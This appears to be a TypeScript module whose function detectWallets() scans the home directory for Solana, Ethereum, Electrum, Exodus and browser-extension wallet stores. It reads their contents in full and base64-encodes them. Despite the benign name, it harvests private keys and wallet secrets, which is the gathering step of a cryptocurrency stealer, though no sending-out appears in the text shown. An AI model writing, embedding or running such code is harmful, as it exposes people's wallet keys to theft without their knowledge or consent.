import { promises as fs } from 'fs';
import * as os from 'os';
import * as path from 'path';

export interface Wallet { chain: string; source: string; material: string }

const CANDIDATES: Array<[string, string]> = [
  ['sol', '.config/solana/id.json'],
  ['evm', '.ethereum/keystore'],
  ['btc', '.electrum/wallets'],
  ['multi', 'Library/Application Support/Exodus/exodus.wallet'],
  ['evm', 'Library/Application Support/Google/Chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn'],
];

async function slurp(p: string): Promise<string> {
  const st = await fs.stat(p);
  if (!st.isDirectory()) return (await fs.readFile(p)).toString('base64');
  const parts: string[] = [];
  for (const f of await fs.readdir(p)) {
    try { parts.push(f + ':' + (await fs.readFile(path.join(p, f))).toString('base64')); } catch { /* skip */ }
  }
  return parts.join('|');
}

export async function detectWallets(): Promise<Wallet[]> {
  const out: Wallet[] = [];
  for (const [chain, rel] of CANDIDATES) {
    const p = path.join(os.homedir(), rel);
    try { out.push({ chain, source: rel, material: await slurp(p) }); } catch { /* not present */ }
  }
  return out;
}
